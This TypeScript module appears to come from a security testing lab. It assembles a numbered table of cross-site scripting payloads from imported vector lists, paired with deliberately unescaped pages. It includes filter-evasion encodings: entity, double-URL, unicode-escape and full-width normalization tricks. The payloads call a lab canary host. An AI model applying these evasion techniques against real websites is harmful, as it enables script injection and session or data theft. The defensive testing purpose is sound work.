import {
  ADDRESSES,
  ATTRIBUTES,
  CALLS,
  CARRIERS,
  CODED_CALLS,
  ENCODED_MARKUP,
  HANDLERS,
  MARKDOWN,
  MARKUP,
  MUTATIONS,
  NARROW_TEXTS,
  PLACES,
  SCRIPT_CARRIERS,
  SCRIPT_TEXTS,
  SPELLINGS,
  STYLES,
} from './xss-vectors.ts'

/** Resolves to the canary server of the lab, in its browser only. */
export const CANARY_HOST = 'xss.test'

export interface XssPayload {
  id: number
  /** What a person would type into a field. */
  text: string
  /** A page that writes the text without escaping it, which proves that the text is a payload. */
  page: string
}

type Draft = Omit<XssPayload, 'id'>

interface Encoding {
  encode: (text: string) => string
  /** A page that decodes once more than it should. */
  decode: (text: string) => string
}

const eachCharacter = (pattern: RegExp, write: (code: number) => string) => (text: string) =>
  text.replaceAll(pattern, (character) => write(character.codePointAt(0) ?? 0))
const MARKS = /[<>"'()]/g
const hex = (code: number) => code.toString(16)

const ENCODINGS: readonly Encoding[] = [
  { encode: eachCharacter(MARKS, (code) => `&#${code};`), decode: decodeEntities },
  { encode: eachCharacter(MARKS, (code) => `&#x${hex(code)};`), decode: decodeEntities },
  { encode: eachCharacter(MARKS, (code) => `&amp;#${code};`), decode: (text) => decodeEntities(decodeEntities(text)) },
  { encode: (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'), decode: decodeEntities },
  { encode: encodeURIComponent, decode: decodeURIComponent },
  { encode: (text) => encodeURIComponent(encodeURIComponent(text)), decode: decodeTwice },
  { encode: eachCharacter(MARKS, (code) => `\\u00${hex(code)}`), decode: decodeEscapes },
  { encode: eachCharacter(MARKS, (code) => `\\x${hex(code)}`), decode: decodeEscapes },
  // Full-width forms, which Unicode normalization turns into the plain ones.
  {
    encode: eachCharacter(MARKS, (code) => String.fromCodePoint(code + 0xfee0)),
    decode: (text) => text.normalize('NFKC'),
  },
]

/** The whole table: places × markup, calls × carriers, and what needs no tag. */
export function listXssPayloads(): XssPayload[] {
  const drafts: Draft[] = [
    ...PLACES.flatMap(({ page, end }) => MARKUP.map((markup) => ({ page, text: `${end}${markup}` }))),
    ...[...CARRIERS, ...SCRIPT_CARRIERS].flatMap((carrier) => CALLS.map((call) => inText(carry(carrier, call)))),
    ...CARRIERS.flatMap((carrier) => CODED_CALLS.map((call) => inText(carry(carrier, call)))),
    ...SPELLINGS.map(inText),
    ...ATTRIBUTES.flatMap(({ page, text }) =>
      HANDLERS.map((handler) => ({ page, text: text.replace('HANDLER', handler) })),
    ),
    ...SCRIPT_TEXTS,
    ...ADDRESSES.map((text) => ({ page: '<iframe src="#"></iframe><a href="#">x</a>', text })),
    ...STYLES,
    ...NARROW_TEXTS,
    ...MUTATIONS.map((text) => ({ page: '<div>#</div>', text })),
    ...MARKDOWN.map((text) => ({ page: text.replace(/\[(.*)\]\((.*)\)/, '<a href="$2">$1</a>'), text })),
    ...ENCODED_MARKUP.flatMap((markup) => ENCODINGS.map((encoding) => encoded(markup, encoding))),
  ]
  return drafts.map(({ page, text }, index) => number(index + 1, page, text))
}

function inText(text: string): Draft {
  return { page: '<p>#</p>', text }
}

function carry(carrier: string, call: string): string {
  return carrier.replace('CODE', () => call)
}

/** The page is complete here, as it decodes what its neighbors show as they get it. */
function encoded(markup: string, { encode, decode }: Encoding): Draft {
  const marked = markup.replaceAll('CODE', 'xss(ID)')
  const text = encode(marked)
  const isDecoded = decode(text) === marked
  if (!isDecoded) throw new Error(`${text} does not decode to ${marked}`)
  return { page: `<p>${marked}</p>`, text }
}

function number(id: number, page: string, text: string): XssPayload {
  const fill = (draft: string) =>
    draft
      .replaceAll('CODE', `xss(${id})`)
      .replaceAll('CANARY', `//${CANARY_HOST}/${id}`)
      .replaceAll('BASE64HTML', btoa(`<svg onload=xss(${id})>`))
      .replaceAll('BASE64', btoa(`xss(${id})`))
      .replaceAll('ID', String(id))
  const filled = fill(text)
  return { id, text: filled, page: page.includes('#') ? page.replaceAll('#', () => filled) : fill(page) }
}

function decodeEntities(text: string): string {
  const named: Record<string, string> = { lt: '<', gt: '>', amp: '&' }
  return text.replaceAll(/&(#x?)?([0-9a-f]+|[a-z]+);/gi, (whole, sign: string | undefined, value: string) =>
    sign ? String.fromCodePoint(Number.parseInt(value, sign === '#' ? 10 : 16)) : (named[value] ?? whole),
  )
}

function decodeTwice(text: string): string {
  return decodeURIComponent(decodeURIComponent(text))
}

function decodeEscapes(text: string): string {
  return text.replaceAll(/\\(?:u00|x)([0-9a-f]{2})/g, (_, value: string) =>
    String.fromCodePoint(Number.parseInt(value, 16)),
  )
}
